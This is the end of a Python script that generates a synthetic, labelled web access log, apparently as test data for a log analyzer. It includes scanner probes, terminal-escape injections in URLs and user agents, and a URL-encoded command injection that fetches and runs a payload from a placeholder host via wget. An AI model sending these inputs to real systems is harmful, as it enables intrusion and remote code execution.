        ("GET", "/.env\x1b[2J\x1b[1;31mOWNED\x1b[0m", "probe", "Mozilla/5.0"),
        ("GET", "/phpinfo.php?%1B%5D0%3Bpwned%07%1B%5B2J", "probe",
         "\x1b]0;pwned\x07Mozilla/5.0 (X11; Linux x86_64)"),
        ("GET", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "probe",
         "python-requests/2.31.0"),
        ("GET", "/mifs/.;/services/LogService", "probe", "Mozilla/5.0"),
        ("GET", "/autodiscover/autodiscover.json?@zdi/Powershell", "probe", "Mozilla/5.0"),
        ("GET", "/.git/config", "probe", "Mozilla/5.0"),
        ("GET", "/api/v1/pods", "probe", "Go-http-client/1.1"),
        ("GET", "/cgi-bin/ViewLog.asp?remote_submit_Flag=1&remote_syslog_Flag=1&"
                "RemoteSyslogSupported=1&LogFlag=0&remote_host=%3b%63%64%20%2f%74%6d%70%3b%77%67"
                "%65%74%20%68%74%74%70%3a%2f%2f%31%39%38%2e%35%31%2e%31%30%30%2e%39%2f%62%3b%73%68"
                "%20%62%3b", "cmdi", "Mozilla/5.0"),
    ]
    t = T_START + 7200
    for method, target, cls, ua in hits:
        t += r.randrange(8 * 3600, 24 * 3600)
        bad = any(ord(c) < 0x20 for c in target)
        st = 400 if bad else 404
        attack(t, ip, method, target, "HTTP/1.1", st, 157 if bad else 153, "-", ua, actor, cls)


# ---- malformed lines -------------------------------------------------------------------------

def malformed(r):
    # a line cut short while the server was writing it (disk full), inside the request field
    t = at(2026, 9, 27, 13, 2, 51)
    RECS.append(Rec(t, "", b"", 0, 0, "", "", "malformed", "malformed", 0, "",
                    raw=(b"90.205.17.88 - - [" + fmt_time(t).encode()
                         + b"] \"GET /news/2026/09/autumn-festival-prog")))
    # binary garbage (no NUL, no newline): part of a corrupted block, with terminal escapes
    t = at(2026, 10, 3, 8, 44, 0)
    junk = bytes(c for c in (r.randrange(1, 256) for _ in range(200)) if c not in (10, 13))[:90]
    RECS.append(Rec(t, "", b"", 0, 0, "", "", "malformed", "malformed", 0, "",
                    raw=b"\x1b[2J\x1b]0;log-garbage\x07" + junk + b"\x1b[0m"))
    # an empty-ish line: blanks only
    t = at(2026, 10, 10, 0, 0, 0)
    RECS.append(Rec(t, "", b"", 0, 0, "", "", "malformed", "malformed", 0, "", raw=b" \t "))


# ---- assembly --------------------------------------------------------------------------------

def build():
    del RECS[:]
    for f in (bots, feeds, monitor, survey_scanner, raw_fetcher, sqlmap, nikto, gobuster,
              env_probe, xss_prober, lfi, cmdi, log4shell, ssti, wp_bruteforce, manual_sqli,
              botnet, malformed):
        f(random.Random("%d:%s" % (SEED, f.__name__)))
    global AWKWARD
    r = random.Random("%d:visitors" % SEED)
    AWKWARD = Cycle(QUERIES_AWKWARD, random.Random("%d:awkward" % SEED))
    people = [Person(i, r) for i in range(1, 421)]
    benign = sum(1 for x in RECS if x.kind == "benign")
    while benign < BENIGN_TARGET:
        # returning visitors are more likely (a few people come often)
        p = people[min(int(r.paretovariate(1.1)) - 1, len(people) - 1)] if r.random() < 0.3 \
            else r.choice(people)
        n0 = len(RECS)
        visitor_session(r, p, pick_time(r))
        benign += len(RECS) - n0
    for i, x in enumerate(RECS):
        x.seq = i
    RECS.sort(key=lambda x: (x.t, x.seq))
    log = bytearray()
    labels = ["line\tactor\tkind\tpayload\tclass\tdetect"]
    for n, x in enumerate(RECS, 1):
        line = x.line()
        assert b"\n" not in line and b"\r" not in line
        log += line + b"\n"
        labels.append("%d\t%s\t%s\t%d\t%s\t%s" % (n, x.actor, x.kind, x.payload, x.cls,
                                                    x.detect))
    return bytes(log), ("\n".join(labels) + "\n").encode()


def main(argv):
    here = os.path.dirname(os.path.abspath(__file__))
    outdir = os.path.join(here, "..", "examples")
    check = False
    for a in argv[1:]:
        if a == "--check":
            check = True
        elif a in ("-h", "--help"):
            print(__doc__)
            return 0
        else:
            outdir = a
    log, labels = build()
    files = {"access.log": log, "access.labels.tsv": labels}
    if check:
        bad = []
        for name, data in files.items():
            p = os.path.join(outdir, name)
            try:
                with open(p, "rb") as f:
                    if f.read() != data:
                        bad.append(name)
            except OSError:
                bad.append(name)
        if bad:
            print("make_example_log.py --check: differs: %s" % ", ".join(bad), file=sys.stderr)
            return 1
        print("make_example_log.py --check: examples are up to date")
        return 0
    os.makedirs(outdir, exist_ok=True)
    for name, data in files.items():
        with open(os.path.join(outdir, name), "wb") as f:
            f.write(data)
    n = log.count(b"\n")
    kinds = {}
    for row in labels.decode().splitlines()[1:]:
        k = row.split("\t")[2]
        kinds[k] = kinds.get(k, 0) + 1
    print("wrote %s: %d lines (%s)" % (os.path.normpath(outdir), n,
                                       ", ".join("%s=%d" % kv for kv in sorted(kinds.items()))))
    # facts that examples/README.md quotes: update it when they change
    lines = log.split(b"\n")
    print("malformed lines: %s" % ", ".join(
        row.split("\t")[0] for row in labels.decode().splitlines()[1:]
        if row.split("\t")[2] == "malformed"))
    print("TLS handshake line: %s" % ", ".join(
        str(i) for i, l in enumerate(lines, 1) if b'"\\x16\\x03' in l))
    local = [i for i, l in enumerate(lines, 1) if b" +0200] " in l]
    if local:
        print("+0200 lines: %d to %d" % (local[0], local[-1]))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
